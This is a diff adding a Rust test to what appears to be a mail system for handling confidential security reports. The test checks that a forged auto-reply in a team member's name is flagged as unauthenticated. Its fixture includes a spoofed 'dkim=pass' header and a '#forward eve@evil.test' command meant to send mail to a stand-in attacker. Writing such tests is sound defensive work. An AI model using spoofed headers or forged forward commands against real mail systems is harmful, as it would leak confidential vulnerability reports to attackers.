@@ -531,6 +531,35 @@ fn outsiders_then_the_reporter(w: &mut World, n: usize) {
     );
 }
 
+/// A forged "automatic" mail in a member's name with commands is told to the team as a
+/// claim: the alert presented it as hers and asked that the commands be sent again,
+/// inviting a colleague to run the forger's `#forward`.
+#[test]
+fn forged_automatic_mail_with_commands_is_told_as_a_claim() {
+    let mut w = World::new();
+    deliver_the_report(&mut w);
+    let notice = w.new_mail()[1].message_id.to_string();
+    let forged = team_mail(
+        ALICE,
+        "forged-auto@attacker.test",
+        Some(&notice),
+        "Re: [SEC-2026-0001] Heap overflow",
+        Some("mx.attacker.test; dkim=pass header.d=example.org"),
+        "#forward eve@evil.test\r\n",
+    )
+    .replacen("\r\n", "\r\nAuto-Submitted: auto-replied\r\n", 1);
+    w.deliver(&forged);
+    let mail = w.new_mail();
+    let alert = body(&first(&mail, "team-notice").bytes);
+    assert!(alert.contains("not authenticated"), "{alert}");
+    assert!(!alert.contains("send the commands again"), "{alert}");
+    assert!(
+        !mail
+            .iter()
+            .any(|r| r.recipients.iter().any(|a| a.contains("evil")))
+    );
+}
+
 /// Forged mail in the reporter's name (the receiving server says `dmarc=fail`) does not
 /// use up her relays: five forgeries with the case's tag in ten minutes held her genuine
 /// mail back from the team, without a word, for as long as the forger kept on.
